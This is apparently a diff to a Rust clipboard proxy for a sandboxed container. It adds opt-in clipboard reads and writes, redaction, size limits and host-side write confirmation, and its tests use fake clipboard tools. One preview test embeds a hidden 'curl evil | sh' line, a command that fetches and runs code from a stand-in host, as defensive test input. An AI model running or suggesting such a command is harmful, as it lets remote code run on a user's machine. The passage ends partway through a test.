@@ -1,17 +1,56 @@
 use base64::Engine;
 use serde::{Deserialize, Serialize};
 use std::fs::File;
-use std::io::{BufRead, BufReader, Read, Write};
+use std::io::{Read, Write};
 use std::path::{Path, PathBuf};
-use std::sync::{Arc, Mutex};
-use std::time::{Duration, SystemTime};
-use std::{env, fs, process, thread};
+use std::process::{Command, Stdio};
+use std::sync::{Arc, Mutex, TryLockError};
+use std::time::{Duration, Instant, SystemTime};
+use std::{env, fs, thread};
 
-use crate::{proxy_log, proxy_socket};
+use crate::{proxy_log, proxy_socket, redact};
 
 #[derive(Deserialize)]
 struct Request {
     command: String,
+    #[serde(default)]
+    mime: Option<String>,
+    /// Content of a `write`.
+    #[serde(default)]
+    data_b64: Option<String>,
+}
+
+/// Host-side settings from `~/.claude-sandbox/projects/<project>/clipboard.json`.
+#[derive(Deserialize, Serialize, Clone, Debug, PartialEq)]
+pub struct Config {
+    /// Let the container read text from the host clipboard. Off by default,
+    /// since copied passwords would otherwise be readable at any time.
+    #[serde(default)]
+    pub read_text: bool,
+    /// Let the container replace the host clipboard. Off by default.
+    #[serde(default)]
+    pub write: bool,
+    /// Ask on the host desktop, through a notification, before each write.
+    #[serde(default)]
+    pub confirm: bool,
+    /// Largest accepted write, in bytes.
+    #[serde(default = "default_max_write_bytes")]
+    pub max_write_bytes: usize,
+}
+
+fn default_max_write_bytes() -> usize {
+    1024 * 1024
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Config {
+            read_text: false,
+            write: false,
+            confirm: false,
+            max_write_bytes: default_max_write_bytes(),
+        }
+    }
 }
 
 #[derive(Serialize)]
@@ -22,9 +61,194 @@ struct Response {
 }
 
 const MAX_AGE_SECS: u64 = 120;
+/// Clipboard contents larger than this are refused.
+const MAX_CLIPBOARD_BYTES: usize = 64 * 1024 * 1024;
+const BACKEND_TIMEOUT: Duration = Duration::from_secs(5);
+/// How long a write confirmation waits for an answer before declining.
+const CONFIRM_TIMEOUT: Duration = Duration::from_secs(60);
+const MAX_PREVIEW_CHARS: usize = 200;
+const MAX_PREVIEW_LINES: usize = 6;
+/// The MIME types the container may read.
+const SUPPORTED_TYPES: &[&str] = &["text/plain", "image/png", "image/jpeg"];
 
 use crate::logging::log_line;
 
+/// The host tool that reads the clipboard selection.
+#[derive(Clone, Debug, PartialEq)]
+enum Backend {
+    /// `wl-paste` on Wayland
+    Wayland(PathBuf),
+    /// `xclip` on X11
+    X11(PathBuf),
+}
+
+fn find_program(name: &str) -> Option<PathBuf> {
+    env::split_paths(&env::var_os("PATH")?)
+        .map(|dir| dir.join(name))
+        .find(|path| path.is_file())
+}
+
+/// Wayland is preferred when both displays are present, since X11 apps on
+/// Wayland only see what XWayland has synchronised.
+fn detect_backend() -> Option<Backend> {
+    let has = |var: &str| env::var_os(var).is_some_and(|value| !value.is_empty());
+    if has("WAYLAND_DISPLAY")
+        && let Some(program) = find_program("wl-paste")
+    {
+        return Some(Backend::Wayland(program));
+    }
+    if has("DISPLAY")
+        && let Some(program) = find_program("xclip")
+    {
+        return Some(Backend::X11(program));
+    }
+    None
+}
+
+impl Backend {
+    fn name(&self) -> &'static str {
+        match self {
+            Backend::Wayland(_) => "wl-paste",
+            Backend::X11(_) => "xclip",
+        }
+    }
+
+    fn read_command(&self, mime: &str) -> Command {
+        match self {
+            Backend::Wayland(program) => {
+                let mut command = Command::new(program);
+                command.args(["--no-newline", "--type", mime]);
+                command
+            }
+            Backend::X11(program) => {
+                let mut command = Command::new(program);
+                command.args(["-selection", "clipboard"]);
+                // Without a target xclip asks for UTF8_STRING, which every
+                // X11 app offers for text; few offer text/plain itself
+                if mime != "text/plain" {
+                    command.args(["-t", mime]);
+                }
+                command.arg("-o");
+                command
+            }
+        }
+    }
+
+    /// `wl-copy` is looked up next to `wl-paste`, since both ship in
+    /// wl-clipboard.
+    fn write_command(&self, mime: &str) -> Command {
+        match self {
+            Backend::Wayland(program) => {
+                let mut command = Command::new(program.with_file_name("wl-copy"));
+                command.args(["--type", mime]);
+                command
+            }
+            Backend::X11(program) => {
+                let mut command = Command::new(program);
+                command.args(["-selection", "clipboard", "-t", mime, "-i"]);
+                command
+            }
+        }
+    }
+
+    fn write_name(&self) -> &'static str {
+        match self {
+            Backend::Wayland(_) => "wl-copy",
+            Backend::X11(_) => "xclip",
+        }
+    }
+
+    fn list_command(&self) -> Command {
+        match self {
+            Backend::Wayland(program) => {
+                let mut command = Command::new(program);
+                command.arg("--list-types");
+                command
+            }
+            Backend::X11(program) => {
+                let mut command = Command::new(program);
+                command.args(["-selection", "clipboard", "-t", "TARGETS", "-o"]);
+                command
+            }
+        }
+    }
+}
+
+/// Run a backend command, killing it if the clipboard owner does not answer
+/// within `timeout`.
+fn run_backend(mut command: Command, timeout: Duration) -> Result<Vec<u8>, String> {
+    let mut child = command
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .map_err(|e| format!("failed to run {:?}: {}", command.get_program(), e))?;
+    let mut stdout = child.stdout.take().unwrap();
+    let reader = thread::spawn(move || {
+        let mut output = Vec::new();
+        let result = (&mut stdout)
+            .take(MAX_CLIPBOARD_BYTES as u64 + 1)
+            .read_to_end(&mut output);
+        result.map(|_| output)
+    });
+    let started = Instant::now();
+    let status = loop {
+        if let Some(status) = child.try_wait().map_err(|e| e.to_string())? {
+            break status;
+        }
+        if started.elapsed() > timeout {
+            let _ = child.kill();
+            let _ = child.wait();
+            return Err(format!("no answer within {}s", timeout.as_secs()));
+        }
+        thread::sleep(Duration::from_millis(20));
+    };
+    let output = reader
+        .join()
+        .map_err(|_| "failed to read the clipboard".to_string())?
+        .map_err(|e| format!("failed to read the clipboard: {}", e))?;
+    if !status.success() {
+        let mut stderr = String::new();
+        let _ = child.stderr.take().unwrap().read_to_string(&mut stderr);
+        return Err(match stderr.trim() {
+            "" => format!("exited with {}", status),
+            message => message.to_string(),
+        });
+    }
+    if output.len() > MAX_CLIPBOARD_BYTES {
+        return Err(format!(
+            "clipboard content is larger than {} bytes",
+            MAX_CLIPBOARD_BYTES
+        ));
+    }
+    Ok(output)
+}
+
+/// The supported types a clipboard offering `targets` can be read as. Text
+/// is offered under many names, so any of them counts as `text/plain`.
+fn supported_types(targets: &str) -> Vec<&'static str> {
+    let targets: Vec<&str> = targets.lines().map(str::trim).collect();
+    let offers = |names: &[&str]| {
+        targets.iter().any(|target| {
+            names.contains(target)
+                || names
+                    .iter()
+                    .any(|name| target.starts_with(&format!("{name};")))
+        })
+    };
+    let mut types = Vec::new();
+    if offers(&["text/plain", "UTF8_STRING", "STRING", "TEXT"]) {
+        types.push("text/plain");
+    }
+    if offers(&["image/png"]) {
+        types.push("image/png");
+    }
+    if offers(&["image/jpeg", "image/jpg"]) {
+        types.push("image/jpeg");
+    }
+    types
+}
+
 fn screenshots_dir() -> PathBuf {
     if let Ok(d) = env::var("CLIPBOARD_SCREENSHOTS_DIR") {
         return PathBuf::from(d);
@@ -78,27 +302,126 @@ fn find_newest_screenshot(dir: &Path) -> Result<Vec<u8>, String> {
     fs::read(&path).map_err(|e| format!("failed to read {}: {}", path.display(), e))
 }
 
-fn handle_request(req: Request, log: &Arc<Mutex<File>>) -> Response {
-    if req.command != "read_image" {
-        log_line(log, &format!("DENIED  unknown command: {}", req.command));
-        return Response {
-            exit_code: 1,
-            stdout_b64: String::new(),
-            stderr: format!("clipboard-proxy: unknown command: {}", req.command),
-        };
+fn deny(stderr: String) -> Response {
+    Response {
+        exit_code: 1,
+        stdout_b64: String::new(),
+        stderr,
+    }
+}
+
+fn read(
+    mime: &str,
+    backend: Option<&Backend>,
+    screenshots: &Path,
+) -> Result<(Vec<u8>, &'static str), String> {
+    let from_backend = match backend {
+        Some(backend) => run_backend(backend.read_command(mime), BACKEND_TIMEOUT)
+            .and_then(|bytes| {
+                if bytes.is_empty() {
+                    Err(format!("the clipboard holds no {}", mime))
+                } else {
+                    Ok(bytes)
+                }
+            })
+            .map(|bytes| (bytes, backend.name()))
+            .map_err(|e| format!("{}: {}", backend.name(), e)),
+        None => Err("no clipboard tool on the host (wl-paste or xclip)".to_string()),
+    };
+    // Screenshots saved to disk stand in for a PNG on the clipboard
+    match from_backend {
+        Err(backend_error) if mime == "image/png" => find_newest_screenshot(screenshots)
+            .map(|bytes| (bytes, "screenshot"))
+            .map_err(|e| format!("{}; {}", backend_error, e)),
+        result => result,
+    }
+}
+
+fn list_types(backend: Option<&Backend>, screenshots: &Path) -> Result<Vec<&'static str>, String> {
+    let mut types = match backend {
+        Some(backend) => {
+            let targets = run_backend(backend.list_command(), BACKEND_TIMEOUT)
+                .map_err(|e| format!("{}: {}", backend.name(), e))?;
+            supported_types(&String::from_utf8_lossy(&targets))
+        }
+        None => Vec::new(),
+    };
+    if !types.contains(&"image/png") && find_newest_screenshot(screenshots).is_ok() {
+        types.push("image/png");
+    }
+    Ok(types)
+}
+
+fn handle_request(
+    req: Request,
+    backend: Option<&Backend>,
+    screenshots: &Path,
+    read_text: bool,
+    log: &Arc<Mutex<File>>,
+) -> Response {
+    let mime = match req.command.as_str() {
+        // Shims from older images only ask for a PNG
+        "read_image" => "image/png".to_string(),
+        "read" => req.mime.unwrap_or_else(|| "text/plain".to_string()),
+        "list_types" => {
+            log_line(log, "REQUEST list_types");
+            return match list_types(backend, screenshots) {
+                Ok(types) => {
+                    log_line(log, &format!("OK      list_types ({})", types.join(", ")));
+                    let listed: String = types.iter().map(|t| format!("{}\n", t)).collect();
+                    Response {
+                        exit_code: 0,
+                        stdout_b64: base64::engine::general_purpose::STANDARD.encode(listed),
+                        stderr: String::new(),
+                    }
+                }
+                Err(msg) => {
+                    log_line(log, &format!("ERROR   list_types: {}", msg));
+                    deny(format!("clipboard-proxy: {}", msg))
+                }
+            };
+        }
+        _ => {
+            log_line(log, &format!("DENIED  unknown command: {}", req.command));
+            return deny(format!("clipboard-proxy: unknown command: {}", req.command));
+        }
+    };
+    if !SUPPORTED_TYPES.contains(&mime.as_str()) {
+        log_line(log, &format!("DENIED  read {}", mime));
+        return deny(format!(
+            "clipboard-proxy: unsupported type {} (supported: {})",
+            mime,
+            SUPPORTED_TYPES.join(", ")
+        ));
     }
 
-    log_line(log, "REQUEST read_image");
+    if mime == "text/plain" && !read_text {
+        log_line(log, "DENIED  read text/plain (text reads are disabled)");
+        return deny(
+            "clipboard-proxy: reading text from the host clipboard is disabled for this project \
+             (set \"read_text\": true in clipboard.json)"
+                .to_string(),
+        );
+    }
 
-    let dir = screenshots_dir();
-    match find_newest_screenshot(&dir) {
-        Ok(bytes) => {
+    log_line(log, &format!("REQUEST read {}", mime));
+    match read(&mime, backend, screenshots) {
+        Ok((bytes, source)) => {
+            let bytes = if mime == "text/plain" {
+                let (redacted, count) = redact::global().redact_bytes(&bytes);
+                redact::log_redactions(log, "clipboard text", count);
+                redacted
+            } else {
+                bytes
+            };
             let encoded = base64::engine::general_purpose::STANDARD.encode(&bytes);
             log_line(
                 log,
                 &format!(
-                    "OK      read_image ({} bytes, {} b64)",
+                    "OK      read {} ({} bytes via {}, {} b64)",
+                    mime,
                     bytes.len(),
+                    source,
                     encoded.len()
                 ),
             );
@@ -109,17 +432,277 @@ fn handle_request(req: Request, log: &Arc<Mutex<File>>) -> Response {
             }
         }
         Err(msg) => {
-            log_line(log, &format!("ERROR   read_image: {}", msg));
+            log_line(log, &format!("ERROR   read {}: {}", mime, msg));
+            deny(format!("clipboard-proxy: {}", msg))
+        }
+    }
+}
+
+/// How writes reach the host clipboard, fixed when the proxy starts.
+struct WriteSettings {
+    config: Config,
+    /// `notify-send`, used to confirm writes.
+    notifier: Option<PathBuf>,
+    /// Held while a write waits for confirmation. Only one prompt is shown
+    /// at a time, so a burst of writes cannot queue up notifications to
+    /// approve without reading.
+    confirming: Mutex<()>,
+}
+
+/// Feed `data` to a backend's copy command. `wl-copy` and `xclip -i` fork
+/// to keep serving the selection, so their output is discarded rather than
+/// waited on.
+fn run_writer(mut command: Command, data: &[u8]) -> Result<(), String> {
+    let mut child = command
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .map_err(|e| format!("failed to run: {}", e))?;
+    if let Some(mut stdin) = child.stdin.take() {
+        stdin
+            .write_all(data)
+            .map_err(|e| format!("failed to write: {}", e))?;
+    }
+    let started = Instant::now();
+    loop {
+        if let Some(status) = child
+            .try_wait()
+            .map_err(|e| format!("failed to wait: {}", e))?
+        {
+            if status.success() {
+                return Ok(());
+            }
+            let mut stderr = String::new();
+            if let Some(mut pipe) = child.stderr.take() {
+                let _ = pipe.read_to_string(&mut stderr);
+            }
+            return Err(match stderr.trim() {
+                "" => format!("exited with {}", status),
+                msg => msg.to_string(),
+            });
+        }
+        if started.elapsed() > BACKEND_TIMEOUT {
+            let _ = child.kill();
+            let _ = child.wait();
+            return Err(format!("no answer within {}s", BACKEND_TIMEOUT.as_secs()));
+        }
+        thread::sleep(Duration::from_millis(10));
+    }
+}
+
+/// The notification body for a write. The size comes first and anything
+/// cut off is called out, so padding cannot hide a tail that would land in
+/// a terminal. Most notification daemons render markup, so it is escaped.
+fn preview(mime: &str, data: &[u8]) -> String {
+    if mime != "text/plain" {
+        return format!("{} image, {} bytes", mime, data.len());
+    }
+    let text = String::from_utf8_lossy(data);
+    let total_lines = text.lines().count().max(1);
+    let mut shown = String::new();
+    let mut room = MAX_PREVIEW_CHARS;
+    let mut hidden = total_lines > MAX_PREVIEW_LINES;
+    for line in text.lines().take(MAX_PREVIEW_LINES) {
+        let visible: String = line
+            .chars()
+            .map(|c| if c.is_control() { '\u{fffd}' } else { c })
+            .take(room)
+            .collect();
+        room -= visible.chars().count();
+        hidden |= visible.chars().count() < line.chars().count();
+        shown.push_str(&visible);
+        shown.push('\n');
+        if room == 0 {
+            hidden = true;
+            break;
+        }
+    }
+    let mut body = format!(
+        "{} line{}, {} bytes",
+        total_lines,
+        if total_lines == 1 { "" } else { "s" },
+        data.len()
+    );
+    if hidden {
+        body.push_str(" (only the start is shown)");
+    }
+    body.push_str("\n\n");
+    body.push_str(&shown);
+    if hidden {
+        body.push_str("[… more not shown]");
+    }
+    escape_markup(body.trim_end())
+}
+
+fn escape_markup(text: &str) -> String {
+    text.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+}
+
+/// Ask on the host desktop whether the container may replace the clipboard.
+/// Dismissing the notification or letting it expire declines.
+fn confirm(notifier: &Path, mime: &str, data: &[u8]) -> Result<bool, String> {
+    let mut command = Command::new(notifier);
+    command.args([
+        "--app-name=claude-sandbox",
+        "--wait",
+        &format!("--expire-time={}", CONFIRM_TIMEOUT.as_millis()),
+        "--action=allow=Copy",
+        "--action=deny=Decline",
+        "Container wants to set the clipboard",
+        &preview(mime, data),
+    ]);
+    let answer = run_backend(command, CONFIRM_TIMEOUT + Duration::from_secs(5))
+        .map_err(|e| format!("notify-send: {}", e))?;
+    Ok(String::from_utf8_lossy(&answer).trim() == "allow")
+}
+
+fn handle_write(
+    req: Request,
+    backend: Option<&Backend>,
+    settings: &WriteSettings,
+    log: &Arc<Mutex<File>>,
+) -> Response {
+    let mime = req.mime.unwrap_or_else(|| "text/plain".to_string());
+    if !settings.config.write {
+        log_line(
+            log,
+            &format!("DENIED  write {} (writes are disabled)", mime),
+        );
+        return deny(
+            "clipboard-proxy: writing the host clipboard is disabled for this project \
+             (set \"write\": true in clipboard.json)"
+                .to_string(),
+        );
+    }
+    if !SUPPORTED_TYPES.contains(&mime.as_str()) {
+        log_line(log, &format!("DENIED  write {}", mime));
+        return deny(format!(
+            "clipboard-proxy: unsupported type {} (supported: {})",
+            mime,
+            SUPPORTED_TYPES.join(", ")
+        ));
+    }
+    let data =
+        match base64::engine::general_purpose::STANDARD.decode(req.data_b64.unwrap_or_default()) {
+            Ok(data) => data,
+            Err(e) => {
+                log_line(log, &format!("INVALID write {} ({})", mime, e));
+                return deny(format!("clipboard-proxy: invalid data: {}", e));
+            }
+        };
+    if data.len() > settings.config.max_write_bytes {
+        log_line(
+            log,
+            &format!(
+                "DENIED  write {} ({} bytes, limit {})",
+                mime,
+                data.len(),
+                settings.config.max_write_bytes
+            ),
+        );
+        return deny(format!(
+            "clipboard-proxy: {} bytes exceeds the {} byte write limit",
+            data.len(),
+            settings.config.max_write_bytes
+        ));
+    }
+
+    log_line(
+        log,
+        &format!("REQUEST write {} ({} bytes)", mime, data.len()),
+    );
+    let Some(backend) = backend else {
+        log_line(log, &format!("ERROR   write {}: no clipboard tool", mime));
+        return deny(
+            "clipboard-proxy: no clipboard tool on the host (wl-copy or xclip)".to_string(),
+        );
+    };
+    let _confirming = if settings.config.confirm {
+        let pending = match settings.confirming.try_lock() {
+            Ok(pending) => pending,
+            Err(TryLockError::Poisoned(poisoned)) => poisoned.into_inner(),
+            Err(TryLockError::WouldBlock) => {
+                log_line(
+                    log,
+                    &format!(
+                        "DENIED  write {} (another write is awaiting confirmation)",
+                        mime
+                    ),
+                );
+                return deny(
+                    "clipboard-proxy: another write is awaiting confirmation on the host"
+                        .to_string(),
+                );
+            }
+        };
+        let approved = match &settings.notifier {
+            Some(notifier) => confirm(notifier, &mime, &data),
+            None => Err("notify-send is not installed".to_string()),
+        };
+        match approved {
+            Ok(true) => {}
+            Ok(false) => {
+                log_line(
+                    log,
+                    &format!("DENIED  write {} (declined on the host)", mime),
+                );
+                return deny("clipboard-proxy: the write was declined on the host".to_string());
+            }
+            Err(msg) => {
+                log_line(
+                    log,
+                    &format!("DENIED  write {} (cannot confirm: {})", mime, msg),
+                );
+                return deny(format!(
+                    "clipboard-proxy: cannot confirm the write: {}",
+                    msg
+                ));
+            }
+        }
+        Some(pending)
+    } else {
+        None
+    };
+    match run_writer(backend.write_command(&mime), &data) {
+        Ok(()) => {
+            log_line(
+                log,
+                &format!(
+                    "OK      write {} ({} bytes via {}{})",
+                    mime,
+                    data.len(),
+                    backend.write_name(),
+                    if settings.config.confirm {
+                        ", confirmed"
+                    } else {
+                        ""
+                    }
+                ),
+            );
             Response {
-                exit_code: 1,
+                exit_code: 0,
                 stdout_b64: String::new(),
-                stderr: format!("clipboard-proxy: {}", msg),
+                stderr: String::new(),
             }
         }
+        Err(msg) => {
+            log_line(
+                log,
+                &format!("ERROR   write {}: {}: {}", mime, backend.write_name(), msg),
+            );
+            deny(format!(
+                "clipboard-proxy: {}: {}",
+                backend.write_name(),
+                msg
+            ))
+        }
     }
 }
 
-pub fn run(socket_path: &str, log_path: &Path) {
+pub fn run(socket_path: &str, log_path: &Path, config: Config) {
     let path = Path::new(socket_path);
     let log_file = proxy_log::open(log_path).unwrap_or_else(|e| {
         eprintln!(
@@ -135,66 +718,78 @@ pub fn run(socket_path: &str, log_path: &Path) {
         eprintln!("clipboard-proxy: failed to bind {}: {}", socket_path, e);
         std::process::exit(1);
     });
-    let listener = bound.listener;
-    let socket_identity = bound.identity;
-
     log_line(&log, &format!("listening on {}", socket_path));
-
-    let parent_pid = std::os::unix::process::parent_id();
-    let watchdog_socket = socket_identity.clone();
-    let watchdog_log = Arc::clone(&log);
-    thread::spawn(move || {
-        loop {
-            thread::sleep(Duration::from_secs(2));
-            let current_ppid = std::os::unix::process::parent_id();
-            if current_ppid != parent_pid {
-                log_line(
-                    &watchdog_log,
-                    &format!(
-                        "parent {} exited (ppid now {}), shutting down",
-                        parent_pid, current_ppid
-                    ),
-                );
-                let _ = watchdog_socket.remove_if_owned();
-                process::exit(0);
-            }
-        }
+    let backend = detect_backend();
+    let screenshots = screenshots_dir();
+    log_line(
+        &log,
+        &format!(
+            "backend: {} (screenshot fallback: {})",
+            backend.as_ref().map_or("none", Backend::name),
+            screenshots.display()
+        ),
+    );
+    // Room for the base64 of the largest write plus the JSON around it
+    let request_limit = (config.max_write_bytes as u64 / 3 + 1) * 4 + 1_048_576;
+    let settings = Arc::new(WriteSettings {
+        notifier: find_program("notify-send"),
+        config,
+        confirming: Mutex::new(()),
     });
-
-    for stream in listener.incoming() {
-        match stream {
-            Ok(stream) => {
-                let log = Arc::clone(&log);
-                thread::spawn(move || {
-                    let reader = BufReader::new(&stream);
-                    let mut writer = &stream;
-
-                    let mut line = String::new();
-                    if let Ok(n) = reader.take(1_048_576).read_line(&mut line) {
-                        if n == 0 {
-                            return;
-                        }
-                        let response = match serde_json::from_str::<Request>(&line) {
-                            Ok(req) => handle_request(req, &log),
-                            Err(e) => {
-                                log_line(&log, &format!("INVALID ({})", e));
-                                Response {
-                                    exit_code: 1,
-                                    stdout_b64: String::new(),
-                                    stderr: format!("clipboard-proxy: invalid request: {}", e),
-                                }
-                            }
-                        };
-                        let _ = serde_json::to_writer(&mut writer, &response);
-                        let _ = writer.write_all(b"\n");
-                    }
-                });
-            }
-            Err(e) => {
-                log_line(&log, &format!("connection error: {}", e));
+    log_line(
+        &log,
+        &format!(
+            "text reads: {}, writes: {}",
+            if settings.config.read_text {
+                "enabled"
+            } else {
+                "disabled"
+            },
+            match (settings.config.write, settings.config.confirm) {
+                (false, _) => "disabled".to_string(),
+                (true, false) => format!("up to {} bytes", settings.config.max_write_bytes),
+                (true, true) => format!(
+                    "up to {} bytes, confirmed via {}",
+                    settings.config.max_write_bytes,
+                    settings
+                        .notifier
+                        .as_ref()
+                        .map_or("notify-send (missing)".to_string(), |p| p
+                            .display()
+                            .to_string())
+                ),
             }
-        }
-    }
+        ),
+    );
+
+    proxy_socket::exit_with_parent(bound.identity, Arc::clone(&log));
+
+    proxy_socket::serve_json(
+        bound.listener,
+        Arc::clone(&log),
+        request_limit,
+        move |req: Request| {
+            let label = format!("clipboard {}", req.command);
+            let mut response = if req.command == "write" {
+                handle_write(req, backend.as_ref(), &settings, &log)
+            } else {
+                handle_request(
+                    req,
+                    backend.as_ref(),
+                    &screenshots,
+                    settings.config.read_text,
+                    &log,
+                )
+            };
+            redact::response_fields(&log, &label, &mut [&mut response.stderr]);
+            response
+        },
+        |e| Response {
+            exit_code: 1,
+            stdout_b64: String::new(),
+            stderr: format!("clipboard-proxy: invalid request: {}", e),
+        },
+    );
 }
 
 #[cfg(test)]
@@ -286,10 +881,409 @@ mod tests {
 
         let req = Request {
             command: "unknown".to_string(),
+            mime: None,
+            data_b64: None,
         };
-        let resp = handle_request(req, &log);
+        let resp = handle_request(req, None, &dir, true, &log);
         assert_eq!(resp.exit_code, 1);
         assert!(resp.stderr.contains("unknown command"));
         let _ = fs::remove_dir_all(&dir);
     }
+
+    fn test_log(dir: &Path) -> Arc<Mutex<File>> {
+        Arc::new(Mutex::new(proxy_log::open(&dir.join("test.log")).unwrap()))
+    }
+
+    /// A stand-in for `wl-paste` or `xclip` that answers the invocations
+    /// the proxy makes.
+    fn fake_tool(dir: &Path, name: &str, cases: &str) -> PathBuf {
+        use std::os::unix::fs::PermissionsExt;
+        let path = dir.join(name);
+        fs::write(
+            &path,
+            format!(
+                "#!/bin/sh\ncase \"$*\" in\n{}\n  *) echo \"No suitable type of content\" >&2; exit 1 ;;\nesac\n",
+                cases
+            ),
+        )
+        .unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+        path
+    }
+
+    fn read_request(mime: &str) -> Request {
+        Request {
+            command: "read".to_string(),
+            mime: Some(mime.to_string()),
+            data_b64: None,
+        }
+    }
+
+    fn stdout(resp: &Response) -> Vec<u8> {
+        base64::engine::general_purpose::STANDARD
+            .decode(&resp.stdout_b64)
+            .unwrap()
+    }
+
+    #[test]
+    fn test_reads_clipboard_types_through_wl_paste() {
+        let dir = make_temp_dir();
+        let log = test_log(&dir);
+        let screenshots = dir.join("Screenshots");
+        let backend = Backend::Wayland(fake_tool(
+            &dir,
+            "wl-paste",
+            "  \"--no-newline --type text/plain\") printf 'copied text' ;;\n\
+             \x20 \"--no-newline --type image/jpeg\") printf 'JPEG' ;;\n\
+             \x20 \"--list-types\") printf 'text/plain;charset=utf-8\\nimage/jpeg\\nSAVE_TARGETS\\n' ;;",
+        ));
+
+        let resp = handle_request(
+            read_request("text/plain"),
+            Some(&backend),
+            &screenshots,
+            true,
+            &log,
+        );
+        assert_eq!(resp.exit_code, 0, "{}", resp.stderr);
+        assert_eq!(stdout(&resp), b"copied text");
+        let resp = handle_request(
+            read_request("image/jpeg"),
+            Some(&backend),
+            &screenshots,
+            true,
+            &log,
+        );
+        assert_eq!(stdout(&resp), b"JPEG");
+
+        let list = Request {
+            command: "list_types".to_string(),
+            mime: None,
+            data_b64: None,
+        };
+        let resp = handle_request(list, Some(&backend), &screenshots, true, &log);
+        assert_eq!(stdout(&resp), b"text/plain\nimage/jpeg\n");
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_png_falls_back_to_screenshots() {
+        let dir = make_temp_dir();
+        let log = test_log(&dir);
+        let backend = Backend::X11(fake_tool(
+            &dir,
+            "xclip",
+            "  \"-selection clipboard -t TARGETS -o\") printf 'TARGETS\\nUTF8_STRING\\n' ;;",
+        ));
+        let screenshots = dir.join("Screenshots");
+        fs::create_dir_all(&screenshots).unwrap();
+
+        let resp = handle_request(
+            read_request("image/png"),
+            Some(&backend),
+            &screenshots,
+            true,
+            &log,
+        );
+        assert_eq!(resp.exit_code, 1);
+        assert!(resp.stderr.contains("xclip: No suitable type of content"));
+        assert!(resp.stderr.contains("no screenshot"));
+
+        fs::write(screenshots.join("shot.png"), b"PNG shot").unwrap();
+        let resp = handle_request(
+            read_request("image/png"),
+            Some(&backend),
+            &screenshots,
+            true,
+            &log,
+        );
+        assert_eq!(stdout(&resp), b"PNG shot");
+        let legacy = Request {
+            command: "read_image".to_string(),
+            mime: None,
+            data_b64: None,
+        };
+        let resp = handle_request(legacy, None, &screenshots, true, &log);
+        assert_eq!(stdout(&resp), b"PNG shot");
+
+        let list = Request {
+            command: "list_types".to_string(),
+            mime: None,
+            data_b64: None,
+        };
+        let resp = handle_request(list, Some(&backend), &screenshots, true, &log);
+        assert_eq!(stdout(&resp), b"text/plain\nimage/png\n");
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_text_reads_are_opt_in() {
+        let dir = make_temp_dir();
+        let log = test_log(&dir);
+        let backend = Backend::Wayland(fake_tool(
+            &dir,
+            "wl-paste",
+            "  \"--no-newline --type text/plain\") printf 'hunter2' ;;\n\
+             \x20 \"--no-newline --type image/png\") printf 'PNG' ;;",
+        ));
+
+        let resp = handle_request(
+            read_request("text/plain"),
+            Some(&backend),
+            &dir,
+            false,
+            &log,
+        );
+        assert_eq!(resp.exit_code, 1);
+        assert!(
+            resp.stderr.contains("\"read_text\": true"),
+            "{}",
+            resp.stderr
+        );
+        assert!(resp.stdout_b64.is_empty());
+        let resp = handle_request(read_request("image/png"), Some(&backend), &dir, false, &log);
+        assert_eq!(stdout(&resp), b"PNG");
+        let logged = fs::read_to_string(dir.join("test.log")).unwrap();
+        assert!(logged.contains("DENIED  read text/plain (text reads are disabled)"));
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_unsupported_type_and_missing_backend() {
+        let dir = make_temp_dir();
+        let log = test_log(&dir);
+        let resp = handle_request(read_request("text/html"), None, &dir, true, &log);
+        assert_eq!(resp.exit_code, 1);
+        assert!(resp.stderr.contains("unsupported type text/html"));
+
+        let resp = handle_request(read_request("text/plain"), None, &dir, true, &log);
+        assert_eq!(resp.exit_code, 1);
+        assert!(resp.stderr.contains("no clipboard tool on the host"));
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    fn write_request(mime: &str, data: &[u8]) -> Request {
+        Request {
+            command: "write".to_string(),
+            mime: Some(mime.to_string()),
+            data_b64: Some(base64::engine::general_purpose::STANDARD.encode(data)),
+        }
+    }
+
+    #[test]
+    fn test_write_is_opt_in_and_limited() {
+        let dir = make_temp_dir();
+        let log = test_log(&dir);
+        let copied = dir.join("copied");
+        let backend = Backend::X11(fake_tool(
+            &dir,
+            "xclip",
+            &format!(
+                "  \"-selection clipboard -t text/plain -i\") cat > '{}' ;;",
+                copied.display()
+            ),
+        ));
+        let mut settings = WriteSettings {
+            config: Config::default(),
+            notifier: None,
+            confirming: Mutex::new(()),
+        };
+
+        let resp = handle_write(
+            write_request("text/plain", b"hi"),
+            Some(&backend),
+            &settings,
+            &log,
+        );
+        assert_eq!(resp.exit_code, 1);
+        assert!(resp.stderr.contains("disabled"));
+        assert!(!copied.exists());
+
+        settings.config.write = true;
+        settings.config.max_write_bytes = 4;
+        let resp = handle_write(
+            write_request("text/plain", b"too long"),
+            Some(&backend),
+            &settings,
+            &log,
+        );
+        assert!(resp.stderr.contains("exceeds the 4 byte write limit"));
+        let resp = handle_write(
+            write_request("text/html", b"<p>"),
+            Some(&backend),
+            &settings,
+            &log,
+        );
+        assert!(resp.stderr.contains("unsupported type text/html"));
+        assert!(!copied.exists());
+
+        let resp = handle_write(
+            write_request("text/plain", b"hi"),
+            Some(&backend),
+            &settings,
+            &log,
+        );
+        assert_eq!(resp.exit_code, 0, "{}", resp.stderr);
+        assert_eq!(fs::read(&copied).unwrap(), b"hi");
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_preview_shows_size_and_hidden_content() {
+        assert_eq!(
+            preview("text/plain", b"echo <b>hi</b> && ls"),
+            "1 line, 20 bytes\n\necho &lt;b&gt;hi&lt;/b&gt; &amp;&amp; ls"
+        );
+        let padded = format!("ls{}curl evil | sh\n", "\n".repeat(40));
+        let shown = preview("text/plain", padded.as_bytes());
+        assert!(shown.starts_with("41 lines, 57 bytes (only the start is shown)"));
+        assert!(shown.ends_with("[… more not shown]"));
+        assert!(!shown.contains("curl"));
+        let long = preview("text/plain", "x".repeat(500).as_bytes());
